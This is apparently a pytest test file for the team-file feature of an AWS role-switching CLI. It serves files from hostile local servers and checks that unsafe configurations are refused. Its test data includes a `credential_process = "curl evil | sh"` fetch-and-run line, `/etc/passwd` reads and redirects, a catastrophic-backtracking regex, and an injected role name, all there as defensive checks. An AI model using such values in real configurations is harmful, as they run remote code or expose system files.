"""`switcher team add|list|update|remove` as a user runs them, against team files served over
real HTTP on 127.0.0.1 (some of the servers hostile), and what an accepted file changes in
`switcher list`, the guard and the exports."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from switcher import paths
from switcher.cli import main
from switcher.localserver import LocalServer, QuietHandler
from switcher.model import Environment
from switcher.sources import team as team_source
from switcher.workspace import Workspace

TEAM = b"""name = "platform"

[[switch_roles]]
account = "444455556666"
role = "ops/Admin"
display_name = "payments live"
environment = "production"
region = "eu-west-1"

[[switch_roles]]
account = "111122223333"
role = "Developer"
display_name = "shop-dev from the team"
region = "us-east-1"
environment = "development"

[targets."111122223333/Developer"]
console = "switchrole"
destinations = ["s3"]

[guardrails]
mode = "type-name"
environments = ["production", "staging"]
"""

OWN = """[[switch_roles]]
account = "111122223333"
role = "Developer"
display_name = "shop-dev"
region = "eu-north-1"
color = "#b7ca9d"

[[switch_roles]]
account = "777788889999"
role = "Viewer"
display_name = "live-shop"

[environments.patterns]
staging = ["^stage-"]
"""

Reply = Callable[[QuietHandler], None]


class Files:
    """What the test server answers, path by path (a reply can be hostile)."""

    def __init__(self) -> None:
        self.replies: dict[str, Reply] = {}
        self.requests: list[tuple[str, str]] = []

    def serve(self, path: str, body: bytes, etag: str = "") -> None:
        def reply(handler: QuietHandler) -> None:
            if etag and handler.headers.get("If-None-Match") == etag:
                handler.send_empty(304)
                return
            handler.send_response(200)
            handler.send_header("Content-Length", str(len(body)))
            if etag:
                handler.send_header("ETag", etag)
            handler.end_headers()
            handler.wfile.write(body)

        self.replies[path] = reply


@pytest.fixture
def files() -> Iterator[tuple[Files, LocalServer]]:
    served = Files()

    class Handler(QuietHandler):
        def do_GET(self) -> None:
            served.requests.append((self.path, self.headers.get("If-None-Match", "")))
            reply = served.replies.get(self.path)
            if reply is None:
                self.send_empty(404)
            else:
                reply(self)

    with LocalServer(Handler, same_user_only=False) as server:
        yield served, server


@pytest.fixture
def own_config(isolated_home: Path) -> Path:
    path = paths.config_dir() / "config.toml"
    path.parent.mkdir(parents=True)
    path.write_text(OWN)
    return path


def run(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    status = main(list(arguments))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def state_files() -> dict[str, bytes]:
    folder = paths.state_dir()
    return {str(p.relative_to(folder)): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()} if folder.exists() else {}


def test_add_shows_what_it_adds_and_pins_the_digest_in_private_files(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    served, server = files
    served.serve("/team.toml", TEAM)
    status, shown, said = run(capsys, "team", "add", server.url("/team.toml"))
    assert status == 0, said
    assert "payments live 444455556666/ops/Admin (production)" in shown
    assert "guardrail mode at least type-name" in shown
    digest = hashlib.sha256(TEAM).hexdigest()
    assert f"Added team platform, pinned at sha256 {digest}" in said
    registry = json.loads((paths.state_dir() / "teams.json").read_text())
    assert registry["teams"]["platform"]["sha256"] == digest
    assert registry["teams"]["platform"]["source"] == server.url("/team.toml")
    copy = paths.state_dir() / "teams" / "platform.toml"
    assert copy.read_bytes() == TEAM
    for path in (copy, paths.state_dir() / "teams.json"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    for folder in (copy.parent, paths.state_dir()):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700

    status, shown, _ = run(capsys, "team", "list")
    assert status == 0 and shown.startswith(f"platform  {digest[:12]}  ")
    assert server.url("/team.toml") in shown

    status, _, said = run(capsys, "team", "add", server.url("/team.toml"))
    assert status == 1 and "already added" in said


def test_team_entries_merge_with_team_source_and_the_users_own_settings_win(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    served, server = files
    served.serve("/team.toml", TEAM)
    assert run(capsys, "team", "add", server.url("/team.toml"))[0] == 0
    workspace = Workspace()
    targets = {t.key: t for t in workspace.targets()}
    developer = targets["111122223333/Developer"]
    # One target, both ways in; the user's region and name come first.
    assert [w.label for w in developer.ways] == ["switch-role:shop-dev", "team:platform"]
    assert developer.region == "eu-north-1"
    assert developer.environment is Environment.DEVELOPMENT
    payments = targets["444455556666/Admin"]
    assert [w.label for w in payments.ways] == ["team:platform"]
    assert payments.role_arn == "arn:aws:iam::444455556666:role/ops/Admin"
    assert payments.environment is Environment.PRODUCTION
    # The team's guardrails are stricter than the user's (confirm, production only).
    assert workspace.guardrail(payments) == "type-name"
    assert Environment.STAGING in workspace.settings.guarded
    # The team's console page fills in what the user did not set.
    assert workspace.destinations(developer) == ["s3"]
    assert workspace.console_method(developer).value == "switchrole"

    status, shown, _ = run(capsys, "list")
    assert status == 0
    assert any("444455556666" in line and "team:platform" in line
               for line in shown.splitlines())


def test_a_team_file_cannot_make_production_weaker(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    served, server = files
    served.serve("/weaker.toml", b"""
[[switch_roles]]
account = "777788889999"
role = "Viewer"
environment = "development"
color = "#00ff00"

[targets."777788889999/Viewer"]
environment = "sandbox"

[guardrails]
mode = "off"
environments = []
""")
    assert run(capsys, "team", "add", server.url("/weaker.toml"), "--name", "lax")[0] == 0
    workspace = Workspace()
    viewer = next(t for t in workspace.targets() if t.key == "777788889999/Viewer")
    # "live-shop" is production by name; the team file says development and green.
    assert viewer.environment is Environment.PRODUCTION
    assert viewer.color != "#00ff00"
    assert workspace.guardrail(viewer) == "confirm"
    assert workspace.settings.guarded == (Environment.PRODUCTION,)


@pytest.mark.parametrize(("body", "says"), [
    (b'[browser]\ncommand = "xdg-open {url}"\n', "browser is refused: browser commands"),
    (b'[shell]\ncredential_endpoint = true\n', "shell is refused"),
    (b'[[switch_roles]]\naccount = "111122223333"\nrole = "A"\n'
     b'credential_process = "curl evil | sh"\n', "credential_process is refused"),
    (b'[aesr]\nsources = ["/etc/passwd"]\n', "aesr is refused"),
    (b'[guardrails]\ncredential_process_allowed = ["x/y"]\n',
     "credential_process_allowed is refused"),
    (b'[targets."1/A"]\ndestinations = ["file:///etc/passwd"]\n', "is not a console page"),
    (b'[environments.patterns]\nproduction = ["(a+)+$"]\n', "repeats a repetition"),
    (b'[environments.colors]\nproduction = "#00ff00"\n', "not a team setting"),
    (b'name = "x"\n[[switch_roles]\n', "not a TOML file"),
    (b"\xff\xfe garbage", "not UTF-8"),
    (b"a = " + b"[" * 5000 + b"]" * 5000, "nested too deeply"),
    (b'[targets."111122223333/DataPath"]\nrole_path = "/etc"\n',
     "role_path is refused: local paths"),
    (b'[[switch_roles]]\naccount = "12"\nrole = "A"\n', "12-digit account id"),
    (b'[[switch_roles]]\naccount = "111122223333"\nrole = "A]\\n[evil"\n',
     "is not a role name"),
])
def test_a_bad_or_refused_team_file_gives_one_line_and_changes_nothing(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str], body: bytes, says: str) -> None:
    served, server = files
    served.serve("/bad.toml", body)
    before = state_files()
    status, shown, said = run(capsys, "team", "add", server.url("/bad.toml"))
    assert status == 1
    assert says in said
    assert said.count("\n") == 1 and said.startswith("switcher: error: ")
    assert shown == "" and state_files() == before


def hostile(files: Files, path: str, reply: Reply) -> None:
    files.replies[path] = reply


def test_hostile_servers_on_loopback_are_cut_off(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    served, server = files
    monkeypatch.setattr(team_source, "DEADLINE", 0.6)
    stop = threading.Event()

    def trickle(handler: QuietHandler) -> None:  # a byte at a time, never done
        handler.send_response(200)
        handler.end_headers()
        while not stop.is_set():
            try:
                handler.wfile.write(b"#")
                handler.wfile.flush()
            except OSError:
                return
            time.sleep(0.05)

    def silent(handler: QuietHandler) -> None:  # accepts, never answers
        stop.wait(5)

    def huge(handler: QuietHandler) -> None:  # no length said, then more than the cap
        handler.send_response(200)
        handler.end_headers()
        chunk = b"# " + b"x" * 65534 + b"\n"
        try:
            for _ in range(64):
                handler.wfile.write(chunk)
        except OSError:
            return

    def says_huge(handler: QuietHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Length", str(50 * 1024 * 1024))
        handler.end_headers()

    def to_file(handler: QuietHandler) -> None:
        handler.send_empty(302, {"Location": "file:///etc/passwd"})

    def to_http_elsewhere(handler: QuietHandler) -> None:
        handler.send_empty(301, {"Location": "http://example.com/team.toml"})

    for path, reply in (("/trickle", trickle), ("/silent", silent), ("/huge", huge),
                        ("/says-huge", says_huge), ("/to-file", to_file),
                        ("/elsewhere", to_http_elsewhere)):
        hostile(served, path, reply)
    expected = {"/trickle": "did not answer in full within 0.6 s",
                "/silent": "did not answer within 0.6 s",
                "/huge": "is larger than 1024 KiB", "/says-huge": "is larger than 1024 KiB",
                "/to-file": "redirected to file:///etc/passwd, which is not an https URL",
                "/elsewhere": "redirected to http://example.com/team.toml"}
    try:
        for path, says in expected.items():
            started = time.monotonic()
            status, shown, said = run(capsys, "team", "add", server.url(path))
            assert status == 1 and says in said, (path, said)
            assert said.count("\n") == 1 and shown == ""
            assert time.monotonic() - started < 3, path
    finally:
        stop.set()
    assert state_files() == {}


def test_unreachable_sources_and_urls_that_are_not_allowed(
        own_config: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    for source, says in (("http://127.0.0.1:9/team.toml", "cannot fetch"),
                         ("http://example.com/team.toml", "from an https URL"),
                         ("file:///etc/passwd", "from an https URL"),
                         (str(tmp_path / "missing.toml"), "cannot read"),
                         (str(tmp_path), "cannot read")):
        status, _, said = run(capsys, "team", "add", source)
        assert status == 1 and says in said, source
    assert state_files() == {}


def test_a_change_is_held_back_until_accepted_and_an_unreachable_file_keeps_the_copy(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    served, server = files
    served.serve("/team.toml", TEAM, etag='"v1"')
    assert run(capsys, "team", "add", server.url("/team.toml"))[0] == 0
    changed = TEAM.replace(b'region = "eu-west-1"', b'region = "eu-central-1"')
    served.serve("/team.toml", changed, etag='"v2"')

    # A refresh fetches it, holds it back and says so; the accepted copy stays in use.
    refresh = Workspace().refresh()
    assert any("team platform: a change is waiting" in w for w in refresh.warnings)
    payments = next(t for t in refresh.targets if t.key == "444455556666/Admin")
    assert payments.region == "eu-west-1"
    status, shown, said = run(capsys, "list")
    assert "warning: team platform: a change is waiting" in said
    assert "eu-central-1" not in shown and "eu-west-1" in shown
    # Read once, the accepted copy is also kept parsed (private) for faster starts.
    parsed = paths.state_dir() / "teams" / "platform.json"
    assert stat.S_IMODE(parsed.stat().st_mode) == 0o600
    assert json.loads(parsed.read_text())["sha256"] == hashlib.sha256(TEAM).hexdigest()
    assert "(a change is waiting)" in run(capsys, "team", "list")[1]

    # Without a terminal and without --yes: shown, not accepted.
    status, shown, said = run(capsys, "team", "update", "platform")
    assert status == 1 and "not accepted" in said
    assert '-region = "eu-west-1"' in shown and '+region = "eu-central-1"' in shown
    assert (paths.state_dir() / "teams" / "platform.toml").read_bytes() == TEAM

    status, shown, said = run(capsys, "team", "update", "--yes")
    assert status == 0 and "+region" in shown
    assert f"accepted, pinned at sha256 {hashlib.sha256(changed).hexdigest()}" in said
    status, shown, _ = run(capsys, "list")
    assert "eu-central-1" in shown
    assert not (paths.state_dir() / "teams" / "platform.pending.toml").exists()
    # Conditional requests: the server is asked with the ETag it gave.
    status, _, said = run(capsys, "team", "update")
    assert status == 0 and "up to date" in said
    assert served.requests[-1] == ("/team.toml", '"v2"')

    # The server goes away: the accepted copy stays, and says why.
    served.replies.clear()
    status, _, said = run(capsys, "team", "update", "platform")
    assert status == 1 and "HTTP 404; the accepted copy is kept" in said
    assert "eu-central-1" in run(capsys, "list")[1]
    refresh = Workspace().refresh()
    assert any("the accepted copy is used" in w for w in refresh.warnings)

    # A bad change is refused whole: the accepted copy stays.
    served.serve("/team.toml", b'[shell]\ncredential_endpoint = true\n')
    status, _, said = run(capsys, "team", "update", "--yes")
    assert status == 1 and "shell is refused" in said
    assert (paths.state_dir() / "teams" / "platform.toml").read_bytes() == changed


def test_an_accepted_copy_changed_on_disk_is_not_used(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    served, server = files
    served.serve("/team.toml", TEAM)
    assert run(capsys, "team", "add", server.url("/team.toml"))[0] == 0
    copy = paths.state_dir() / "teams" / "platform.toml"
    copy.write_bytes(TEAM.replace(b"type-name", b"off"))
    workspace = Workspace()
    assert not any(t.key == "444455556666/Admin" for t in workspace.targets())
    assert any("changed on disk" in w for w in workspace.settings.warnings)


def test_remove_and_a_local_git_checkout(own_config: Path, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    checkout = tmp_path / "platform-config"
    (checkout / ".git" / "refs" / "heads").mkdir(parents=True)
    (checkout / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    commit = "0123456789abcdef0123456789abcdef01234567"
    (checkout / ".git" / "refs" / "heads" / "main").write_text(commit + "\n")
    (checkout / "switcher-team.toml").write_bytes(TEAM.replace(b'name = "platform"\n', b""))
    status, shown, said = run(capsys, "team", "add", str(checkout))
    assert status == 0, said
    assert f"(git commit {commit[:12]})" in shown
    assert "Added team platform-config" in said
    assert f"@ {commit[:12]}" in run(capsys, "team", "list")[1]
    assert any(t.key == "444455556666/Admin" for t in Workspace().targets())

    assert run(capsys, "team", "remove", "platform-config")[0] == 0
    assert not any(t.key == "444455556666/Admin" for t in Workspace().targets())
    assert sorted(state_files()) == ["teams.json"]
    status, _, said = run(capsys, "team", "remove", "platform-config")
    assert status == 1 and "no team named" in said
    assert "No team files" in run(capsys, "team", "list")[2]


def test_export_team_is_a_team_file_that_team_add_takes(
        own_config: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    with own_config.open("a") as config:
        config.write('\n[browser]\ncommand = "firefox {url}"\n'
                     '[guardrails]\nmode = "type-name"\n'
                     '[targets."111122223333/Developer"]\nconsole = "switchrole"\n')
    status, exported, said = run(capsys, "export", "team")
    assert status == 0, said
    assert "browser" not in exported and "firefox" not in exported
    shared = tmp_path / "shared.toml"
    shared.write_text(exported)
    content = team_source.parse_team_file(shared.read_bytes(), str(shared))
    assert [(e["account"], e["role"], e.get("display_name")) for e in content.switch_roles] == [
        ("111122223333", "Developer", "shop-dev"), ("777788889999", "Viewer", "live-shop")]
    assert content.patterns == {Environment.STAGING: ("^stage-",)}
    assert content.guardrail == "type-name"
    assert content.targets == {"111122223333/Developer": {"console": "switchrole"}}
    assert run(capsys, "team", "add", str(shared), "--name", "mine")[0] == 0


def test_export_aws_config_prints_the_populate_block(
        setup: object, signed_in: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    from switcher.store.populate import BEGIN, END

    config = paths.aws_config_file()
    before = config.read_bytes()
    status, shown, said = run(capsys, "export", "aws-config")
    assert status == 0, said
    assert shown.startswith(BEGIN) and shown.rstrip().endswith(END)
    assert shown.count("[profile ") + said.count(": already in ") == sum(
        1 for t in signed_in.targets() if any(w.kind.value == "sso" for w in t.ways))
    assert "sso_account_id = " in shown and "sso_role_name = " in shown
    assert config.read_bytes() == before  # on standard output only
    assert str(config) == os.environ["AWS_CONFIG_FILE"]  # the emulator's, not a real one


def test_a_target_named_like_a_refused_key_is_a_target(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    served, server = files
    served.serve("/team.toml", b'[targets."111122223333/DataPath"]\nconsole = "portal"\n'
                               b'[targets."444455556666/Browser"]\ndestinations = ["s3"]\n')
    status, shown, said = run(capsys, "team", "add", server.url("/team.toml"), "--name", "t")
    assert status == 0, said
    assert "111122223333/DataPath: console portal" in shown


def test_an_unreadable_registry_is_said(own_config: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    registry = paths.state_dir() / "teams.json"
    registry.parent.mkdir(parents=True)
    registry.write_text("{not json")
    status, _, said = run(capsys, "team", "list")
    assert status == 1 and "teams.json cannot be read" in said
    assert any("no team file is applied" in w for w in Workspace().settings.warnings)


def test_update_asks_in_a_terminal_and_a_no_keeps_the_change_waiting(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    import pty
    import subprocess
    import sys

    served, server = files
    served.serve("/team.toml", TEAM)
    assert run(capsys, "team", "add", server.url("/team.toml"))[0] == 0
    changed = TEAM.replace(b"eu-west-1", b"eu-central-1")
    served.serve("/team.toml", changed)

    def answered(answer: bytes) -> tuple[int, str]:
        leader, follower = pty.openpty()
        try:
            process = subprocess.Popen(
                [sys.executable, "-m", "switcher", "team", "update", "platform"],
                stdin=follower, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                env=dict(os.environ))
            os.write(leader, answer)
            shown, said = process.communicate(timeout=60)
        finally:
            os.close(leader)
            os.close(follower)
        assert b"+region = \"eu-central-1\"" in shown
        return process.returncode, said.decode()

    status, said = answered(b"n\n")
    assert status == 1 and "Accept this change to team platform? [y/N]" in said
    assert "the change stays waiting" in said
    assert "(a change is waiting)" in run(capsys, "team", "list")[1]
    status, said = answered(b"y\n")
    assert status == 0 and "accepted, pinned at sha256" in said
    assert (paths.state_dir() / "teams" / "platform.toml").read_bytes() == changed


def test_a_proxy_in_the_environment_is_not_used_for_loopback(
        files: tuple[Files, LocalServer], own_config: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    served, server = files
    served.serve("/team.toml", TEAM)
    for name in ("http_proxy", "HTTP_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")  # nothing listens there
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    status, _, said = run(capsys, "team", "add", server.url("/team.toml"))
    assert status == 0, said


@pytest.mark.parametrize("planted_by", ["another user", "anyone (mode 0666)"])
def test_a_registry_and_copy_another_user_could_plant_are_not_applied(
        own_config: Path, capsys: pytest.CaptureFixture[str], planted_by: str) -> None:
    if planted_by == "another user" and os.getuid() != 0:
        pytest.skip("giving a file to another user needs root")
    data = (b'[[switch_roles]]\naccount = "999988887777"\nrole = "Admin"\n'
            b'display_name = "payments-prod"\nregion = "eu-west-1"\n')
    folder = paths.state_dir()
    (folder / "teams").mkdir(parents=True)
    registry = folder / "teams.json"
    copy = folder / "teams" / "evil.toml"
    copy.write_bytes(data)
    registry.write_text(json.dumps({"teams": {"evil": {
        "name": "evil", "source": str(folder / "gone.toml"),
        "sha256": hashlib.sha256(data).hexdigest()}}}))
    for path in (registry, copy):
        if planted_by == "another user":
            os.chown(path, 65534, 65534)
        else:
            path.chmod(0o666)
    workspace = Workspace()
    assert not any(t.account_id == "999988887777" for t in workspace.targets())
    assert any("teams.json" in w and "no team file is applied" in w
               for w in workspace.settings.warnings)
    status, _, said = run(capsys, "team", "list")
    assert status == 1 and "not yours alone" in said
